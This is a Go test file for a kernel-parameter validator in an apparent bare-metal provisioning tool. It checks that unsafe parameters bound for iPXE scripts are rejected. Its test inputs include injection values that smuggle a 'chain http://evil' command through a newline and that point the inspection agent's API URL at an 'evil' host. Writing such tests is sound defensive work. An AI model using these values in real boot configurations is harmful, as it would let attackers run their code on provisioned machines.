package schemas_test

import (
	"strings"
	"testing"

	"github.com/metalgit/metalgit/internal/kernelparam"
	"github.com/metalgit/metalgit/schemas"
)

// Extra kernel parameters of the Site and of a Host must be words the
// boot proxy can write into an iPXE script: each problem names the field
// with its index and says how to fix it.
func TestKernelParams(t *testing.T) {
	site := func(kp string) baseDocs {
		b := base()
		b.site = siteDoc("{namespace: metal3-system, provisioningPool: provisioning, bootProxy: {vip: 192.168.100.2/24, kernelParams: " + kp + "}}")
		return b
	}
	host := func(kp string) baseDocs {
		b := base()
		b.host = hostDoc("{name: server-01}", strings.TrimSuffix(baseHostSpec, "}")+", kernelParams: "+kp+"}")
		return b
	}
	bad := func(object, field, param, why string) schemas.Problem {
		return problem(object, field, schemas.RuleKernelParam, "kernel parameter "+param+": "+why+"; "+kernelparam.Fix)
	}
	many := "[" + strings.Repeat("quiet, ", kernelparam.MaxParams) + "quiet]"
	cases := map[string]ruleCase{
		"site: space": {docs: site(`{inspector: ["ipa-debug=1", "a b"]}`),
			want: []schemas.Problem{bad("Site/dc1", "spec.bootProxy.kernelParams.inspector[1]", `"a b"`, "' ' at byte 1 is not allowed")}},
		"site: expansion and newline": {docs: site(`{installer: ["x=${net0/ip}", "y\nchain http://evil"]}`),
			want: []schemas.Problem{
				bad("Site/dc1", "spec.bootProxy.kernelParams.installer[0]", `"x=${net0/ip}"`, "'$' at byte 2 is not allowed"),
				bad("Site/dc1", "spec.bootProxy.kernelParams.installer[1]", `"y\nchain http://evil"`, `'\n' at byte 1 is not allowed`),
			}},
		"site: too many": {docs: site("{inspector: " + many + "}"),
			want: []schemas.Problem{problem("Site/dc1", "spec.bootProxy.kernelParams.inspector", schemas.RuleKernelParam,
				"33 kernel parameters, more than 32; keep the ones every host needs in the Site's spec.bootProxy.kernelParams")}},
		"host: reserved key": {docs: host(`{inspector: ["ipa-api-url=http://evil:6385"]}`),
			want: []schemas.Problem{bad("Host/server-01", "spec.kernelParams.inspector[0]", `"ipa-api-url=http://evil:6385"`, "ipa-api-url is set by the boot proxy itself")}},
		"host: quote, empty, dash": {docs: host(`{installer: ["a='b'", "", "--"]}`),
			want: []schemas.Problem{
				bad("Host/server-01", "spec.kernelParams.installer[0]", `"a='b'"`, `'\'' at byte 2 is not allowed`),
				bad("Host/server-01", "spec.kernelParams.installer[1]", `""`, "it is empty"),
				bad("Host/server-01", "spec.kernelParams.installer[2]", `"--"`, `it starts with '-' (the kernel passes everything after "--" to init)`),
			}},
		"host: too long": {docs: host(`{installer: ["a=` + strings.Repeat("x", 300) + `"]}`),
			want: []schemas.Problem{bad("Host/server-01", "spec.kernelParams.installer[0]", `"a=`+strings.Repeat("x", 198)+`…"`, "it has 302 bytes, more than 256")}},

		"control: site":  {docs: site(`{inspector: ["console=ttyS0,115200n8", ipa-debug=1], installer: [quiet]}`)},
		"control: host":  {docs: host(`{inspector: ["ipa-ntp-server=[fd00::1]"], installer: ["rd.net.timeout.carrier=30"]}`)},
		"control: empty": {docs: host(`{}`)},
	}
	runRuleTable(t, cases)
}
